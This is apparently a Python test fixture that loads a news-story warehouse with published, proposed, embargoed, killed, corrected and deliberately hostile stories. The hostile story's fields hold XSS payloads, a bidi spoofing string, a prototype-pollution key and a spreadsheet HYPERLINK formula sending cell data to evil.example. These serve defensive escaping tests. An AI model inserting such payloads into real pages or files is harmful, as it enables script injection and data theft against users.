"""A warehouse with one story of every fate, loaded without a flow: shown, proposed, hostile, embargoed, killed, corrected."""

from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from tests.factories import NOW, a_batch, a_country, a_measure, a_run, a_story, delivered, sketched
from warehouse.batch import Batch
from warehouse.codes import EntityKind, MeasureType, PublishStatus, Role, Stance, Status
from warehouse.connect import open_writer
from warehouse.records import Entity, Evidence, Mention, Party, Position, Story
from warehouse.settle import settle
from warehouse.store import load

CLAUSE = "Norway banned timber imports from Belarus on Monday."
BODY = f"{CLAUSE} Sweden opposed the ban."
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
BIDI = "\u202egnp.exe\u2066"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"open")'
HOSTILE_NAME = f"-2+3 {SCRIPT}{BIDI}"
MARKUP = '</div></main><style>*{display:none}</style>" onmouseover="alert(3)'
HOSTILE_BODY = f"{CLAUSE} {HOSTILE_NAME} {MARKUP} {FORMULA} __proto__ constructor"
HIDDEN_WORD = "Zembla"  # of stories that may not be shown

NORWAY, BELARUS, SWEDEN = a_country("NO"), a_country("BY"), a_country("SE")
FIRM = Entity("entity_hostile", EntityKind.ORGANIZATION, HOSTILE_NAME, None)


def stock(published: Path) -> Path:
    """Load the stories; return the warehouse."""
    embargoed = {"embargoed_until": datetime(2999, 1, 1, tzinfo=UTC), "headline": f"{HIDDEN_WORD} waits"}
    killed = {
        "publish_status": PublishStatus.CANCELED,
        "headline": f"{HIDDEN_WORD} dies",
        "published_at": datetime(2026, 1, 2, tzinfo=UTC),
    }
    hidden = f"{BODY} {HIDDEN_WORD}."
    take(
        published,
        telling(a_story("story_imposed", body=BODY, headline="Norway bans timber"), Status.IMPOSED, positions=True),
        telling(
            a_story("story_proposed", body=BODY, headline="Ban asked for", published_at=None, published_precision=None),
            Status.PROPOSED,
        ),
        telling(a_story("story_hostile", **_hostile()), Status.EXTENDED, target=FIRM),
        telling(a_story("story_embargoed", body=hidden, **embargoed), Status.LIFTED),
        telling(a_story("story_killed", "v1", body=hidden, headline=f"{HIDDEN_WORD} lives"), Status.EASED),
        a_batch(a_story("story_killed", "v2", 2, body=hidden, **killed)),
        a_batch(a_story("story_corrected", "v1", 1, body="It said nothing then.", headline="First words")),
        telling(a_story("story_corrected", "v2", 2, body=BODY, headline="Last words"), Status.THREATENED),
    )
    return published


def take(published: Path, *batches: Batch, run_id: str = "run_1") -> None:
    """Load batches one after the other, and settle what they say of each other."""
    with open_writer(published) as writer:
        for batch in batches:
            load(writer, batch, delivered(batch), sketched(batch), a_run(run_id=run_id))
        settle(writer)


def telling(story: Story, status: Status, target: Entity = BELARUS, positions: bool = False) -> Batch:
    """Return a story that tells of one measure of Norway, with its evidence and who it names."""
    story = replace(story, word_count=len(story.body.split()))
    measure = a_measure(
        f"measure_{story.story_id}", story, status=status, measure_type=MeasureType.IMPORT_RESTRICTION,
        evidence_text=CLAUSE, evidence_start=0, evidence_end=len(CLAUSE),
    )  # fmt: skip
    stance = Position(
        f"position_{story.story_id}", story.story_id, story.version, measure.measure_id, SWEDEN.entity_id, "SE", "SE",
        Stance.OPPOSES, "Sweden opposed the ban.", BODY.index("Sweden"), len(BODY), "P-word-oppose",
    )  # fmt: skip
    return a_batch(
        story,
        measures=(measure,),
        measure_parties=(_party(measure.measure_id, Role.SENDER, NORWAY), _party(measure.measure_id, Role.TARGET, target)),
        measure_evidence=tuple(
            Evidence(measure.measure_id, field, words, BODY.index(words), BODY.index(words) + len(words), rule)
            for field, words, rule in (("measure_type", "banned", "T-V-ban-goods"), ("target", "Belarus", "R-preposition"))
        ),
        entities=(NORWAY, BELARUS, SWEDEN, FIRM),
        mentions=tuple(_mention(story, entity, words) for entity, words in ((NORWAY, "Norway"), (BELARUS, "Belarus"))),
        positions=(stance,) if positions else (),
    )


def _hostile() -> dict[str, Any]:
    return {
        "body": HOSTILE_BODY,
        "headline": f"{FORMULA} {SCRIPT} {BIDI}",
        "provider": f"+{SCRIPT}{BIDI}",
        "byline": f"@{FORMULA}",
        "slugline": '"><script>alert(4)</script>',
        "source_uri": "javascript:alert(5)//http://x",
        "keywords": (FORMULA, SCRIPT),
        "first_seen_at": NOW,
    }


def _party(measure_id: str, role: Role, entity: Entity) -> Party:
    return Party(measure_id, role, entity.entity_id, entity.country, entity.name)


def _mention(story: Story, entity: Entity, words: str) -> Mention:
    start = story.body.index(words)
    key = f"mention_{story.story_id}_{story.version}_{start}"
    return Mention(key, story.story_id, story.version, entity.entity_id, "GPE", words, start, start + len(words), "test")
